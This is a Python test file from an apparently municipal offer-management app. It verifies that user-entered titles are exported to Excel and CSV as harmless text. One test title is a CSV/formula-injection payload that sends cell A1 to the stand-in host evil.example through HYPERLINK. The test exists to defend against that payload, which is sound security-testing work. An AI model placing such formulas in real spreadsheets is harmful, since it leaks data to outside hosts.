"""Text typed or pasted by people reaches Excel as text: no formulas, no broken files."""

from __future__ import annotations

import zipfile
from datetime import date

from gwa_desktop.domain.enums import OfferCategory
from gwa_desktop.domain.municipality import MunicipalityData
from gwa_desktop.domain.offer import OfferData, OfferTextData
from gwa_desktop.exchange.records import Period
from gwa_desktop.services.district_export import export_district
from gwa_desktop.services.offers import OfferService
from gwa_desktop.services.settings import SettingsService
from tests.exchange.package_helpers import workbook_of


def test_formula_like_titles_and_control_characters_stay_harmless_text(database, tmp_path):
    SettingsService(database).save(
        MunicipalityData(name="Gemeinde Lindenbach", district="Musterland")
    )
    offers = OfferService(database)
    for title in (
        '=HYPERLINK("http://evil.example/?"&A1,"Kinder & Eltern")',
        "Spielenachmittag\x0bmit\x0cKaffee",
    ):
        offers.create(
            OfferData(
                texts=[OfferTextData("de", title)],
                category=OfferCategory.FAMILY,
                start_date=date(2026, 5, 4),
            )
        )

    package = export_district(database, Period(date(2026, 1, 1), date(2026, 12, 31)), tmp_path)

    book = workbook_of(package)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    formula = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert formula and all(c.data_type == "s" for c in formula)
    assert any(c.value == "SpielenachmittagmitKaffee" for c in cells)
    with zipfile.ZipFile(package) as archive:
        csv_text = archive.read("csv/angebote.csv").decode("utf-8-sig")
    assert "'=HYPERLINK" in csv_text and "\x0b" not in csv_text
